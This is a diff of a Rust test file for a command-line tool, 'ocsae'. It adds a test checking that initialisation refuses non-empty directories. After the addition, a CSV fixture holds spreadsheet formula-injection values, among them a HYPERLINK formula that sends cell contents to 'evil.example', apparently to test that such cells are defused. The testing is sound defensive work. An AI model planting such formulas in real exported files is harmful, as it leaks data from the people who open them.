@@ -334,6 +334,48 @@ fn an_output_that_is_a_device_a_pipe_or_a_directory_is_refused_and_dash_is_stdou
     assert!(!dir.path().join("-").exists());
 }
 
+#[test]
+fn init_and_the_first_run_refuse_a_directory_holding_other_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let thesis = dir.path().join("thesis");
+    fs::create_dir_all(thesis.join("sub")).unwrap();
+    fs::write(thesis.join("thesis.txt"), "chapter 1").unwrap();
+    let before = snapshot(&thesis);
+    let err = failed(ocsae(&thesis, &["init"]));
+    assert!(
+        err.contains("is not an ocsae store nor an empty directory"),
+        "{err}"
+    );
+    // The dashboard's first run would create it too; it is refused before the screen opens.
+    let err = failed(ocsae(&thesis, &[]));
+    assert!(
+        err.contains("is not an ocsae store nor an empty directory"),
+        "{err}"
+    );
+    assert_eq!(snapshot(&thesis), before, "nothing was added");
+    // `--db .` in a working directory is the same directory.
+    let out = std::process::Command::new(common::pty::binary())
+        .args(["--db", ".", "--lang", "en", "init"])
+        .current_dir(&thesis)
+        .env("XDG_CONFIG_HOME", dir.path().join("no-config"))
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stderr).contains("is not an ocsae store"),
+        "{}",
+        text(&out.stderr)
+    );
+    assert_eq!(snapshot(&thesis), before);
+    // An empty directory, or a new one, takes a store; a store stays one.
+    let empty = dir.path().join("empty");
+    fs::create_dir(&empty).unwrap();
+    ok(ocsae(&empty, &["init"]));
+    ok(ocsae(&dir.path().join("new/db"), &["init"]));
+    let err = failed(ocsae(&empty, &["init"]));
+    assert!(!err.contains("not an ocsae store"), "{err}");
+}
+
 /// A row whose cells a spreadsheet would run, as typed in the office's sheet.
 const FORMULAS: &str = "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at;reason;notes;status_reason\n\
     252228;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\";mayor;tcat;new;no;received;2026-12-01 09:00;;;+34 973 00 00 00;@SUM(1)\n\
